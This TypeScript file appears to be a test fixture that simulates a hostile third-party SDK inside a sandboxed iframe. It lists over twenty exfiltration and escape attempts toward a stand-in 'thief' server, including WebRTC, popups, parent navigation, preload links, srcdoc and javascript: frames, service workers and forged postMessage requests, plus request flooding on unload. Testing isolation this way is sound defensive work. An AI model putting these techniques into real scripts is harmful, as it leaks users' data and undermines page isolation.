import { hostileSdk } from './hostile-sdk'

/**
 * The hostile SDK in a sealed frame: all it tries in a page, and what only makes sense in a frame.
 *
 * @param host the vendor's own server, to which it may send while it may run
 * @param thief another server, to which it never may
 */
export function hostileFrame(host: string, thief: string) {
  const to = (road: string): string => `${thief}/stolen/${road}`
  const link = (attributes: object): void => {
    const element = document.createElement('link')
    Object.assign(element, attributes)
    document.head.append(element)
  }
  const click = (attributes: object): void => {
    const anchor = document.createElement('a')
    Object.assign(anchor, attributes)
    document.body.append(anchor)
    anchor.click()
  }
  const own: Record<string, () => unknown> = {
    'rtc connection': () =>
      new RTCPeerConnection({ iceServers: [{ urls: `stun:${thief.replace('http://', '')}` }] }),
    'fetch later': () =>
      (window as unknown as { fetchLater(url: string): unknown }).fetchLater(to('fetch-later')),
    popup: () => window.open(to('popup')),
    'blank target': () => click({ href: to('blank'), target: '_blank' }),
    'top navigation': () => (top as Window).location.assign(to('top')),
    'top link': () => click({ href: to('top-link'), target: '_top' }),
    'parent navigation': () => parent.location.assign(to('parent')),
    'parent document': () => parent.document.title,
    'parent fetch': () => (parent as typeof window).fetch(to('parent-fetch')),
    prefetch: () => link({ rel: 'prefetch', href: to('prefetch') }),
    preload: () => link({ rel: 'preload', as: 'fetch', href: to('preload') }),
    'module preload': () => link({ rel: 'modulepreload', href: to('module-preload') }),
    manifest: () => link({ rel: 'manifest', href: to('manifest') }),
    icon: () => link({ rel: 'icon', href: to('icon') }),
    'source document': () => {
      const inner = document.createElement('iframe')
      inner.srcdoc = `<script>fetch(${JSON.stringify(to('srcdoc'))})</script><img src="${to('srcdoc-img')}">`
      document.body.append(inner)
    },
    'script url': () => {
      const inner = document.createElement('iframe')
      inner.src = `javascript:fetch(${JSON.stringify(to('script-url'))})`
      document.body.append(inner)
    },
    evaluated: () => new Function(`return fetch(${JSON.stringify(to('evaluated'))})`)() as unknown,
    video: () => Object.assign(document.createElement('video'), { src: to('video') }).load(),
    font: () => new FontFace('x', `url(${to('font')})`).load(),
    'service worker': () => navigator.serviceWorker.register(to('service-worker')),
    transport: () => new WebTransport(to('transport').replace('http', 'https')),
    // Said to the page's window and not through the port: whoever listens there must not believe it.
    forgery: () =>
      parent.postMessage({ type: 'request', id: 1, request: { url: to('forgery') } }, '*'),
  }
  const attack = (): string[] => {
    for (const road of Object.values(own))
      try {
        void Promise.resolve(road()).catch(() => {})
      } catch {
        // Refused.
      }
    const page = hostileSdk(thief)
    return [...Object.keys(own), ...page.attack('patched'), ...page.attack('walled')]
  }
  return {
    attack,
    /** Sends to its own vendor's server without end, and most of all when its end comes. */
    siege(): void {
      const send = (): void => void hostileSdk(host).attack('patched')
      setInterval(send, 20)
      for (const type of ['pagehide', 'unload', 'beforeunload', 'visibilitychange'])
        addEventListener(type, send, true)
      document.addEventListener('visibilitychange', send, true)
    },
    /** Fills the page's history. */
    history(): void {
      for (let index = 0; index < 5; index += 1) history.pushState(index, '')
    },
    /** The only way to that which is not its own to close. */
    hash(): void {
      location.hash = 'x'
    },
    /** Leaves, and takes with it what it knows. */
    navigate(): void {
      location.href = to('navigation')
    },
  }
}
